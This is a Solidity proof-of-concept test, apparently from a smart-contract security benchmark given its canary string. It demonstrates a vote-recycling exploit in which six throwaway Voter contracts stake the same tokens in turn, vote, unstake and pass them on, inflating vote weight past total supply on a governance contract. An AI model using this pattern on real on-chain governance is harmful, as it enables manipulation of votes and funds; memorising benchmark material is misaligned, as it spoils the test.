// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Voter {
    function run(IERC20 _sprig, AssessorGuild _guild, uint256 _claimId, address _next) external {
        uint256 amount = _sprig.balanceOf(address(this));
        _sprig.approve(address(_guild), amount);
        _guild.stake(amount);
        try _guild.vote(_claimId, true) {} catch {}
        _guild.unstake(amount);
        _sprig.transfer(_next, amount);
    }
}

contract Attacker {
    function run(IERC20 _sprig, AssessorGuild _guild, uint256 _claimId) external {
        for (uint256 i = 0; i < 6; i++) {
            Voter voter = new Voter();
            _sprig.transfer(address(voter), _sprig.balanceOf(address(this)));
            voter.run(_sprig, _guild, _claimId, address(this));
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        sprig.mint(address(other), 40_000e18);
    }

    // No vote weighs more than all tokens that there are.
    function counted() public view returns (bool) {
        (, uint256 yes, uint256 no, , , ) = guild.voteInfo(votingId);
        return yes + no <= sprig.totalSupply();
    }

    function exploit() public {
        other.run(sprig, guild, votingId);
    }

    function test_Exploit() public {
        exploit();
        require(!counted(), "counted once");
    }

    function target() public view override returns (address) {
        return address(guild);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
